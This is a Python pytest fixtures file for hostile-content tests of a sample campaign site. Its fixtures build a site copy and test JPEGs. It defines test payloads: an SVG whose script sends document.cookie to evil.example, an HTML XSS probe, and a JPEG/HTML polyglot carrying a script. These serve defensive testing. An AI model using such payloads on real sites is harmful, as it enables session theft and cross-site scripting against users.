"""Fixtures for the hostile-content tests: a small copy of the sample site, the CLI, a hostile corpus."""

from __future__ import annotations

import io
import shutil
from pathlib import Path

import pytest
from PIL import Image

from tests.plugins.sample_site import small_sample_site

NOW = "2026-11-23T10:00"
CAMPAIGN = "campaigns/autumn-tea-2026"


@pytest.fixture(scope="session")
def small_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    site = small_sample_site(
        tmp_path_factory.mktemp("security-site") / "site",
        hero_widths=[120],
        list_widths=[100],
        formats=["webp"],
    )
    return site


@pytest.fixture
def site(small_site: Path, tmp_path: Path) -> Path:
    """A private, changeable copy of the small sample site."""
    return Path(shutil.copytree(small_site, tmp_path / "site"))


def jpeg_bytes(size: tuple[int, int] = (64, 36)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (40, 80, 120)).save(buffer, "JPEG", quality=80)
    return buffer.getvalue()


EVIL_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('https://evil.example/?c='+document.cookie)</script></svg>"
)
EVIL_HTML = b"<!doctype html><html><body><script>alert(document.domain)</script></body></html>"


def polyglot_jpeg() -> bytes:
    """A real JPEG whose comment segment carries an HTML page (decodes fine, nothing after its end)."""
    data = jpeg_bytes()
    payload = b"<html><body><script>alert(1)</script></body></html>"
    comment = b"\xff\xfe" + (len(payload) + 2).to_bytes(2, "big") + payload
    return data[:2] + comment + data[2:]


def write_body(site: Path, body: str, folder: str = CAMPAIGN) -> Path:
    """Replace the body of a campaign (keeping its front matter)."""
    index = site / folder / "index.md"
    text = index.read_text(encoding="utf-8")
    head, _, _ = text.partition("\n---\n")
    index.write_text(head + "\n---\n\n" + body + "\n", encoding="utf-8")
    return index
